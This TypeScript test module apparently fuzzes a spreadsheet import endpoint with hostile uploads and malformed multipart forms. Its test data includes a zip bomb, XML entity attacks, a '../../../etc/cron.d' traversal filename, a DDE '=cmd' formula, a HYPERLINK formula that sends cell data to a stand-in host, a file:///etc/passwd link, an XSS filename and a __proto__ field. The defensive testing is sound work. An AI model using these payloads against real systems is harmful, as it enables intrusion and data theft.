import ExcelJS from 'exceljs';
import {
  climbingName,
  edited,
  encryptedWorkbook,
  externalEntity,
  handmadeWorkbook,
  makeCleanWorkbook,
  millionBlankRows,
  nestedArchive,
  oldWorkbook,
  plainArchive,
  renamedMacroWorkbook,
  sampleTeachers,
  sixteenThousandColumns,
  truncated,
  zipBomb,
} from '@shidang/seed';
import type { Attack } from '../attack';
import { insidersOf, stateOf, upload } from '../canary/plant';
import { cleanAnswer } from '../check/clean-answer';
import { endedWell, type Sent } from '../check/ended-well';
import type { Violation } from '../check/violation';
import { ask, bodyOf } from '../door/ask';
import { documentedCodes } from '../door/documented-codes';

type Hostile = readonly [what: string, content: Buffer, name?: string];

/** Changed with a spreadsheet library: what people do to a workbook without meaning harm. */
async function changed(file: Buffer, change: (workbook: ExcelJS.Workbook) => void): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(file).buffer);
  change(workbook);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

const csv = '姓名,性别\n张三,男\n';

async function oddWorkbooks(): Promise<Hostile[]> {
  const clean = await makeCleanWorkbook(sampleTeachers(2, 'hostile'), 1);
  const first = (workbook: ExcelJS.Workbook) => workbook.worksheets[0]!;
  const cell = (value: ExcelJS.CellValue) => changed(clean, (book) => void (first(book).getCell('B2').value = value));
  const deep = `${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`;
  return [
    ['merged cells', await changed(clean, (book) => first(book).mergeCells('A2:D3'))],
    ['a hidden sheet', await changed(clean, (book) => void (book.worksheets[1]!.state = 'veryHidden'))],
    ['an identity number as a float', await cell(331199199003071020)],
    ['a date as a number', await cell(44_927.5)],
    ['a formula', await cell({ formula: 'HYPERLINK("http://x/"&A1)', result: 'x' } as ExcelJS.CellValue)],
    ['an error value', await cell({ error: '#REF!' } as ExcelJS.CellValue)],
    ['a link', await cell({ text: 'x', hyperlink: 'file:///etc/passwd' })],
    ['a cell of 40,000 characters', await cell('师'.repeat(40_000))],
    ['control characters', await edited(clean, [{ sheet: '基本信息', cell: 'B2', value: '_x0000_a\u202eb' }])],
    ['a name like a formula', await edited(clean, [{ sheet: '基本信息', cell: 'B2', value: '=cmd|"/C calc"!A0' }])],
    ['cut in the middle', truncated(clean)],
    ['XML 50,000 deep', handmadeWorkbook(`<worksheet>${deep}</worksheet>`)],
    [
      'a billion laughs',
      handmadeWorkbook('<!DOCTYPE a [<!ENTITY b "xxxxxxxxxx"><!ENTITY c "&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'),
    ],
    [
      'a row number out of the world',
      handmadeWorkbook(
        '<worksheet><sheetData><row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData></worksheet>',
      ),
    ],
    [
      'a shared string that is not there',
      handmadeWorkbook(
        '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>4294967295</v></c></row></sheetData></worksheet>',
      ),
    ],
    ...[
      '../../../etc/cron.d/x.xlsx',
      '.xlsx',
      `${'名'.repeat(300)}.xlsx`,
      '名单.xlsx.exe',
      '<script>alert(1)</script>.xlsx',
      'a\r\nx: y.xlsx',
      'CON.xlsx',
    ].map((name): Hostile => [`the name ${name.slice(0, 30)}`, clean, name]),
  ];
}

async function hostileFiles(): Promise<Hostile[]> {
  return [
    ['a zip bomb', zipBomb()],
    ['a million empty rows', millionBlankRows()],
    ['16,000 columns', sixteenThousandColumns()],
    ['an encrypted workbook', encryptedWorkbook()],
    ['a workbook of before 2007', oldWorkbook()],
    ['macros renamed', renamedMacroWorkbook()],
    ['an external entity', externalEntity()],
    ['a climbing name', climbingName()],
    ['an archive within', nestedArchive()],
    ['an archive that is no workbook', plainArchive()],
    ['nothing', Buffer.alloc(0)],
    ['zeros', Buffer.alloc(1_000_000)],
    ['a picture', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['HTML', Buffer.from('<html><script>alert(1)</script></html>')],
    ['csv with a mark', Buffer.from(`\ufeff${csv}`), '名单.csv'],
    ['csv in UTF-16', Buffer.from(`\ufeff${csv}`, 'utf16le'), '名单.csv'],
    ['csv in GBK', Buffer.from('d0d5c3fb2cd0d4b1f00ad5c5c8fd2cc4d00a', 'hex'), '名单.csv'],
    ['csv as a workbook', Buffer.from(csv)],
    ['21 MB', Buffer.alloc(21 * 1024 * 1024, 1)],
    ...(await oddWorkbooks()),
  ];
}

/** Multipart that is not what it says it is. */
const brokenForms: readonly (readonly [string, string, string])[] = [
  ['no boundary', 'multipart/form-data', 'x'],
  ['no part', 'multipart/form-data; boundary=b', '--b--\r\n'],
  [
    'no end',
    'multipart/form-data; boundary=b',
    '--b\r\ncontent-disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK',
  ],
  [
    'another field',
    'multipart/form-data; boundary=b',
    '--b\r\ncontent-disposition: form-data; name="x"\r\n\r\n1\r\n--b--\r\n',
  ],
  [
    'a field that climbs',
    'multipart/form-data; boundary=b',
    '--b\r\ncontent-disposition: form-data; name="__proto__"; filename="a.xlsx"\r\n\r\nPK\r\n--b--\r\n',
  ],
  [
    'two files',
    'multipart/form-data; boundary=b',
    '--b\r\ncontent-disposition: form-data; name="file"; filename="a.xlsx"\r\n\r\nPK\r\n--b\r\ncontent-disposition: form-data; name="file"; filename="b.xlsx"\r\n\r\nPK\r\n--b--\r\n',
  ],
  ['a thousand headers', 'multipart/form-data; boundary=b', `--b\r\n${'x: y\r\n'.repeat(1_000)}\r\nPK\r\n--b--\r\n`],
];

const over = ['checked', 'matching', 'failed'];

export const files: Attack = {
  name: 'files',
  says: 'files that bomb, lie, climb, hide or break, and forms that are none: each ends in a clear word, and nothing dies',
  async run(attacking) {
    const { url } = attacking.system;
    const { info } = insidersOf(attacking);
    const documented = await documentedCodes(url);
    const figures = { files: 0, refused: 0, 'taken and read to an end': 0, forms: 0 };
    const violations: Violation[] = [];
    for (const [what, content, name = '教师信息.xlsx'] of await hostileFiles()) {
      const answer = await upload(url, info, name, content);
      const asked = { method: 'POST', path: '/api/v1/imports', says: what, isCertain: false };
      violations.push(...cleanAnswer(asked, answer, documented));
      const body = bodyOf(answer);
      const id = answer.status === 202 ? String(body['id']) : undefined;
      const view = id
        ? await stateOf(info, id, ...over).catch(() => bodyOf({ ...answer, text: '{"state":"stuck"}' }))
        : undefined;
      const failure = view?.['failure'] as { code?: string } | undefined;
      const sent: Sent = {
        what,
        status: answer.status,
        detail: String(body['detail'] ?? ''),
        state: view && String(view['state']),
        failure: failure?.code,
      };
      violations.push(...endedWell(sent, documented));
      figures.files++;
      if (id) figures['taken and read to an end']++;
      else figures.refused++;
    }
    for (const [says, type, text] of brokenForms) {
      const asked = {
        method: 'POST',
        path: '/api/v1/imports',
        headers: { ...info.who(), 'content-type': type },
        body: Buffer.from(text),
      };
      violations.push(
        ...cleanAnswer(
          { ...asked, says: `a form with ${says}`, isCertain: says !== 'two files' },
          await ask(url, asked),
          documented,
        ),
      );
      figures.forms++;
    }
    return { figures, violations };
  },
};
